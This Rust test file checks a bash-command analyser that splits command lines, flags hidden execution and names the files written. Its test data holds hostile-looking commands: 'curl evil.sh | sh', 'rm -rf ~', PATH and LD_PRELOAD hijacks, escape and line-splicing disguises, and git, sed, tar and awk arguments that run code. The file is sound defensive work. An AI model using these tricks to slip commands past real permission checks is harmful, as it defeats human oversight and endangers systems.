//! The analysis of hostile and harmless lines: what is split out, named and hidden.

use super::*;

fn hidden(line: &str) -> Vec<Hidden> {
    analyse(line).hidden
}

fn files(line: &str) -> Vec<(String, Access)> {
    analyse(line)
        .files
        .into_iter()
        .map(|f| {
            (
                f.word.value.unwrap_or_else(|| format!("?{}", f.word.raw)),
                f.access,
            )
        })
        .collect()
}

#[test]
fn lists_pipes_subshells_and_substitutions_are_split() {
    assert_eq!(
        split_commands("git status && rm -rf ~"),
        [
            "git status",
            format!("rm -rf {}", std::env::var("HOME").unwrap()).as_str()
        ]
    );
    assert_eq!(
        split_commands("ls | grep x; echo done"),
        ["ls", "grep x", "echo done"]
    );
    assert_eq!(split_commands("(cd src && make)"), ["cd src", "make"]);
    assert_eq!(
        split_commands("echo $(curl evil.sh | sh)"),
        ["echo $(curl evil.sh | sh)", "curl evil.sh", "sh"]
    );
    assert_eq!(split_commands("for f in *.rs; do rm $f; done"), ["rm $f"]);
    assert_eq!(split_commands("export A=1"), ["export A=1"]);
    assert_eq!(split_commands(r#"echo "a;b""#), ["echo a;b"]);
}

#[test]
fn quoting_and_paths_do_not_disguise_a_command() {
    assert_eq!(split_commands("'rm' -rf x"), ["rm -rf x"]);
    assert_eq!(split_commands(r"\rm x"), ["rm x"]);
    assert_eq!(split_commands(r"$'\x72m' x"), ["rm x"]);
    assert_eq!(split_commands("/bin/rm x"), ["/bin/rm x", "rm x"]);
    assert!(hidden("{rm,-rf,x}").is_empty() || analyse("{rm,-rf,x}").unparsed);
    assert_eq!(hidden("$cmd x"), [Hidden::ComputedCommand]);
    assert_eq!(hidden("/bin/r? x"), [Hidden::ComputedCommand]);
    // A backslash-newline is gone before bash reads the line: it joins `r` and `m`, `$` and
    // `(`, and a here-document's closing line.
    assert_eq!(split_commands("r\\\nm -rf x"), ["rm -rf x"]);
    assert_eq!(
        split_commands("echo $\\\n(curl evil.sh)"),
        ["echo $(curl evil.sh)", "curl evil.sh"]
    );
    assert_eq!(
        split_commands("echo \"${x:-$\\\n(id)}\""),
        ["echo \"${x:-$(id)}\"", "id"]
    );
    assert_eq!(
        split_commands("cat <<EOF\nEO\\\nF\nrm -rf x\nEOF"),
        ["cat", "rm -rf x", "EOF"]
    );
    assert_eq!(
        split_commands("cat <<'EOF'\nEO\\\nF\nrm -rf x\nEOF"),
        ["cat"]
    );
    assert!(!analyse("cargo test \\\n  --all").unparsed);
}

#[test]
fn prefix_assignments_are_part_of_the_pattern_and_never_recorded() {
    let line = analyse("GIT_CONFIG_COUNT=1 git status");
    assert_eq!(line.patterns(), ["GIT_CONFIG_COUNT=1 git status"]);
    assert!(line.always().is_empty());
    assert_eq!(analyse("git status --short").always(), ["git status *"]);
    assert_eq!(
        hidden("PATH=/tmp/evil; git status"),
        [Hidden::ShellVariable("PATH".into())]
    );
    assert_eq!(hidden("x=$(id) ls"), [Hidden::ComputedAssignment]);
    assert_eq!(
        split_commands("env LD_PRELOAD=x.so git status"),
        [
            "env LD_PRELOAD=x.so git status",
            "LD_PRELOAD=x.so git status"
        ]
    );
}

#[test]
fn redirections_name_the_files_they_write() {
    assert_eq!(
        files("echo x > a 2>> b &> c >| d 2>&1 >&2 < e"),
        [
            ("a".into(), Access::Write),
            ("b".into(), Access::Write),
            ("c".into(), Access::Write),
            ("d".into(), Access::Write),
            ("e".into(), Access::Read),
        ]
    );
    assert_eq!(files("echo x >& out"), [("out".into(), Access::Write)]);
    assert_eq!(files("{ echo; } > g"), [("g".into(), Access::Write)]);
    assert_eq!(files("exec 3> f"), [("f".into(), Access::Write)]);
    assert_eq!(files("echo > $F"), [("?$F".into(), Access::Write)]);
    assert!(analyse("cat <> f").unparsed);
    assert!(analyse("cat <<EOF\nunterminated").unparsed);
}

#[test]
fn runtime_evaluation_is_hidden_but_literal_arithmetic_is_not() {
    assert!(hidden("echo $((1+2)) $[3*4]").is_empty());
    assert_eq!(hidden("echo $((x))"), [Hidden::Arithmetic]);
    assert_eq!(hidden("((x))"), [Hidden::Arithmetic]);
    assert_eq!(hidden("echo ${a[$i]}"), [Hidden::Subscript]);
    assert!(hidden("echo ${a[1]} ${a[@]}").is_empty());
    assert_eq!(hidden("echo ${!x}"), [Hidden::Indirection]);
    assert_eq!(hidden("echo ${x@P}"), [Hidden::Transformation]);
    assert_eq!(hidden("echo ${x:n}"), [Hidden::Arithmetic]);
    assert!(hidden("echo ${x:-y} ${x#*/} ${x:1:2}").is_empty());
    assert_eq!(hidden("[[ -v a ]]"), [Hidden::Subscript]);
    assert_eq!(hidden("[[ $a -eq 1 ]]"), [Hidden::Arithmetic]);
    assert!(hidden("[[ 1 -eq 1 ]]").is_empty());
    assert_eq!(hidden("echo `echo \\`id\\``"), [Hidden::NestedBackticks]);
    assert_eq!(hidden("let x=1"), [Hidden::Arithmetic]);
    assert_eq!(hidden("declare -i n=1"), [Hidden::Arithmetic]);
    assert_eq!(hidden("printf -v 'a[x]' y"), [Hidden::Subscript]);
    assert_eq!(hidden("unset 'a[x]'"), [Hidden::Subscript]);
    assert_eq!(hidden("test -v a"), [Hidden::Subscript]);
    assert_eq!(
        hidden("for ((i=0;i<3;i++)); do :; done"),
        [Hidden::Arithmetic]
    );
    assert_eq!(
        hidden("trap 'rm x' EXIT"),
        [Hidden::ShellState("trap".into())]
    );
    assert_eq!(hidden("eval \"$x\""), [Hidden::Interpreter("eval".into())]);
    assert_eq!(
        hidden("source env.sh"),
        [Hidden::Interpreter("source".into())]
    );
    assert_eq!(hidden("echo rm x | sh"), [Hidden::Interpreter("sh".into())]);
    assert_eq!(hidden("sudo ls"), [Hidden::Wrapper("sudo".into())]);
}

#[test]
fn wrappers_and_inline_shells_are_seen_through() {
    assert_eq!(
        split_commands("timeout 5 rm -rf x"),
        ["timeout 5 rm -rf x", "rm -rf x"]
    );
    assert_eq!(
        split_commands("bash -c 'git status; rm x'"),
        ["bash -c git status; rm x", "git status", "rm x"]
    );
    assert_eq!(split_commands("eval 'rm x'"), ["eval rm x", "rm x"]);
    assert_eq!(
        split_commands("nice -n 5 nohup command rm x"),
        [
            "nice -n 5 nohup command rm x",
            "nohup command rm x",
            "command rm x",
            "rm x"
        ]
    );
    assert_eq!(
        split_commands("find . -name '*.o' -exec rm {} \\;"),
        ["find . -name *.o -exec rm {} ;", "rm {}"]
    );
    let line = analyse("ls | xargs rm");
    assert_eq!(line.patterns(), ["ls", "xargs rm", "rm"]);
    assert_eq!(line.hidden, [Hidden::InputArguments]);
    assert_eq!(hidden("command -v git").len(), 0);
    assert_eq!(
        hidden("timeout --weird 5 ls"),
        [Hidden::Wrapper("timeout".into())]
    );
}

#[test]
fn file_commands_name_their_paths() {
    let home = std::env::var("HOME").unwrap();
    assert_eq!(files("cat ../x"), [("../x".into(), Access::Read)]);
    assert_eq!(
        files("cp -r a ~/y"),
        [
            ("a".into(), Access::Write),
            (format!("{home}/y"), Access::Write)
        ]
    );
    assert_eq!(files("cd .."), [("..".into(), Access::Enter)]);
    assert_eq!(files("cd"), [(home.clone(), Access::Enter)]);
    assert_eq!(files("grep -n /api/ src"), [("src".into(), Access::Read)]);
    assert_eq!(
        files("grep -e x -f ../pats f"),
        [("../pats".into(), Access::Read), ("f".into(), Access::Read)]
    );
    assert_eq!(files("head -n 5 a.txt"), [("a.txt".into(), Access::Read)]);
    assert_eq!(files("sed -i s/a/b/ f"), [("f".into(), Access::Write)]);
    assert_eq!(
        files("dd if=a of=../b"),
        [("a".into(), Access::Write), ("../b".into(), Access::Write)]
    );
    assert_eq!(
        files("ls --directory=../x"),
        [("../x".into(), Access::Read)]
    );
    assert_eq!(
        files("cat \"$(echo ../x)\""),
        [("?\"$(echo ../x)\"".into(), Access::Read)]
    );
    assert_eq!(
        files("git -C ../other status"),
        [("../other".into(), Access::Read)]
    );
    assert_eq!(files("find / -name x"), [("/".into(), Access::Read)]);
    assert_eq!(files("find . -delete"), [(".".into(), Access::Write)]);
    assert!(files("echo ../x").is_empty());
}

#[test]
fn what_the_grammar_reads_differently_from_bash_is_never_seen_as_whole() {
    for line in [
        "echo ${x:=`touch M`}",
        "echo ${x#$(touch M)}",
        "echo ${x%%`touch M`}",
        "echo \"${x:-'$(touch M)'}\"",
        "echo ${x:-<(touch M)}",
        "cat <<EOF\n  $(touch M)\nEOF",
        "cat <<-EOF\n\t$(touch M)\n\tEOF",
        "cat <<EOF\n\t`touch M`\nEOF",
        "echo $'\\''; touch M ;'",
        "echo $'\\'' touch M '",
        "echo 'unterminated",
    ] {
        let analysis = analyse(line);
        let touches = analysis.patterns().iter().any(|p| p == "touch M");
        assert!(
            analysis.unparsed || touches,
            "{line:?} read as {analysis:?}"
        );
    }
    assert_eq!(
        hidden("for PATH in ./evil; do ls; done"),
        [Hidden::ShellVariable("PATH".into())]
    );
    assert!(!analyse("for path in a b; do ls $path; done").unparsed);
}

#[test]
fn harmless_quoting_and_expansions_read_the_same_both_ways() {
    for line in [
        "echo '$(x)' \"$(ls)\" $'a\\tb' ${HOME} $((1+2)) # $(x)",
        "cat <<'EOF'\n$(x)\nEOF",
        "cat <<EOF\n$HOME and ${HOME} and $(date)\nEOF",
        "git log --format='%H %s' -n 3",
        "find . -name '*.rs' -exec grep -l x {} \\;",
        "awk '{print $1}' a.txt | sort | uniq -c",
        "FOO=1 cargo test",
        "echo \"it's\" 'a \"b\"' \"a\\\"b\" x\\'y",
        "git commit -m \"fix: handle \\`x\\` and \\$y\"",
        "[[ -n \"${x:-}\" ]] && echo \"${x%/*}\"",
        "echo $(( $(wc -l < a.txt) + 1 ))",
        "case \"$x\" in a|b) echo ab ;; *) echo other ;; esac",
        "echo \"$(basename \"$(pwd)\")\"",
        "echo ${#x} $# $$ $? ${x:0:2}",
        "env FOO=1 cargo test",
        "make CC=gcc all",
        "export RUST_LOG=debug; cargo run",
        "if FOO=1 true; then echo y; fi",
        "x=$(date +%s); echo $x",
    ] {
        let analysis = analyse(line);
        assert!(!analysis.unparsed, "{line:?}: {:?}", analysis.unread);
    }
}

/// Whether `line` runs something unseen or writes a file.
fn runs_or_writes(line: &str) -> bool {
    let analysis = analyse(line);
    analysis
        .hidden
        .iter()
        .any(|h| matches!(h, Hidden::Argument(_)))
        || analysis.files.iter().any(|f| f.access == Access::Write)
}

#[test]
fn every_entry_of_the_runners_table_is_caught_in_each_spelling() {
    for entry in super::runners::TABLE {
        for program in entry.programs {
            let sub = entry
                .subcommand
                .map(|s| format!(" {s}"))
                .unwrap_or_default();
            let flag = entry.flag;
            let mut spellings = vec![format!("{program}{sub} {flag} x")];
            if flag.starts_with("--") {
                spellings.push(format!("{program}{sub} {flag}=x"));
                // An unambiguous prefix, as getopt_long and git read it.
                let prefix = &flag[..(flag.len() - 2).div_ceil(2) + 2];
                spellings.push(format!("{program}{sub} {prefix}=x"));
                spellings.push(format!("{program}{sub} {prefix} x"));
            } else {
                spellings.push(format!("{program}{sub} {flag}x"));
                if flag.len() == 2 {
                    // Last in a bundle, value next or glued.
                    let letter = &flag[1..];
                    spellings.push(format!("{program}{sub} -q{letter} x"));
                    spellings.push(format!("{program}{sub} -q{letter}x"));
                }
            }
            for line in spellings {
                assert!(runs_or_writes(&line), "{line:?}: {:?}", analyse(&line));
            }
        }
    }
}

#[test]
fn arguments_that_run_or_write_are_caught() {
    for line in [
        "sed --expr='1e touch M' a.txt",
        "sed --e='s/a/b/e' a.txt",
        "sed -ne '1e touch M' a.txt",
        "sed -nes/a/b/e p",
        "sed -n --expression 's/a/b/w M' a.txt",
        "tar cIf 'touch M' x.tar .",
        "git diff --outp=M",
        "git log --out M -1",
        "curl -sSLo M https://example.com",
        "ssh -vo ProxyCommand='touch M' host",
        "git -c core.pager='touch M' log",
        "git -c alias.x='!touch M' x",
        "git -c core.fsmonitor='touch M' status",
        "git diff --output=M",
        "git log --output M",
        "git grep -Otouch x",
        "git grep --open-files-in-pager=touch x",
        "git fetch --upload-pack='touch M' origin",
        "git submodule foreach 'touch M'",
        "git rebase -x 'touch M' HEAD~1",
        "git bisect run touch M",
        "git config core.pager 'touch M'",
        "git worktree add ../x",
        "find . -exec touch M \\;",
        "rg --pre ./evil x",
        "sed e",
        "sed 's/x/touch M/e' a.txt",
        "sed -n '1w M' a.txt",
        "sed 's/a/b/w M' a.txt",
        "sed -e '1e touch M' a.txt",
        "sed -f script.sed a.txt",
        "sed -i 's/a/b/' a.txt",
        "awk 'BEGIN{system(\"touch M\")}'",
        "awk 'BEGIN{print 1 | \"sh\"}'",
        "awk 'BEGIN{\"date\" | getline d}'",
        "awk '{print > \"M\"}' a.txt",
        "awk '{printf \"%s\", $0 >> \"M\"}' a.txt",
        "awk -f prog.awk a.txt",
        "sort --compress-program=./evil a.txt",
        "sort -o M a.txt",
        "tar --to-command='touch M' -xf a.tar",
        "tar -cf M src",
        "tar xf a.tar",
        "tar --checkpoint=1 --checkpoint-action=exec='touch M' -cf /dev/null a.txt",
        "tar -I ./evil -cf x.tar a.txt",
        "less '+!touch M' a.txt",
        "vim -c ':!touch M' -c q",
        "zip -TT 'touch M' -T x.zip a.txt",
        "make SHELL=./evil",
        "make -f evil.mk",
        "xargs touch",
        "env touch M",
        "watch touch M",
        "curl -o M http://127.0.0.1/",
        "wget http://127.0.0.1/x",
        "mapfile -C 'touch M' -c 1 arr < a.txt",
        "man -P 'touch M' ls",
        "cargo --config 'build.rustc-wrapper=\"./evil\"' build",
        "less -oM a.txt",
        "sort -oM a.txt",
        "git init ../x",
        "git bundle create M HEAD",
        "script -c 'touch M'",
        "read PATH <<< ./evil",
        "printf -v PATH ./evil",
        "shopt -s expand_aliases",
    ] {
        let analysis = analyse(line);
        let touches = analysis.patterns().iter().any(|p| p.starts_with("touch M"));
        assert!(
            runs_or_writes(line) || touches || !analysis.hidden.is_empty(),
            "{line:?}: {analysis:?}"
        );
    }
}

#[test]
fn harmless_uses_of_the_same_programs_stay_plain() {
    for line in [
        "git status",
        "git log --oneline -n 5",
        "git diff --stat HEAD~1",
        "git -c color.ui=always log -1",
        "git show HEAD:src/main.rs",
        "git grep -n foo",
        "git config --get user.name",
        "find . -name '*.rs'",
        "sed -n 1,5p f",
        "sed 's/a/b/g' f",
        "sed -n '/start/,/end/p' f",
        "awk '{print $1}' f",
        "awk -F: '$3 > 100 {print $1}' f",
        "awk 'NR>1 {s += $2} END {print s}' f",
        "sort -k2 -n f",
        "tar tf a.tar",
        "tar -tzf a.tgz",
        "rg -n foo src",
        "less f",
        "make",
        "make test",
        "xargs --version",
    ] {
        let analysis = analyse(line);
        assert!(
            analysis
                .hidden
                .iter()
                .all(|h| !matches!(h, Hidden::Argument(_)))
                && analysis.files.iter().all(|f| f.access != Access::Write),
            "{line:?}: {analysis:?}"
        );
    }
}

#[test]
fn glued_and_bundled_variable_names_are_assignments() {
    for (line, name) in [
        ("printf -vPATH x", "PATH"),
        ("printf -v PATH x", "PATH"),
        ("read -aPATH", "PATH"),
        ("read -ra LD_PRELOAD", "LD_PRELOAD"),
        ("read -r BASH_ENV", "BASH_ENV"),
        ("mapfile -t PATH", "PATH"),
        ("wait -pPATH", "PATH"),
    ] {
        assert!(
            hidden(line).contains(&Hidden::ShellVariable(name.into())),
            "{line}: {:?}",
            analyse(line)
        );
    }
    assert!(hidden("printf -v out '%s' x").is_empty());
    // A here-string the grammar cannot attach to a loop is still read.
    let select = analyse("select x in a b; do echo $x; break; done <<< 1");
    assert!(!select.unparsed && select.files.is_empty(), "{select:?}");
    assert_eq!(
        split_commands("for x in a; do :; done <<< $(touch M)"),
        ["touch M"]
    );
    assert!(hidden("read -r -p 'Name: ' name").is_empty());
}
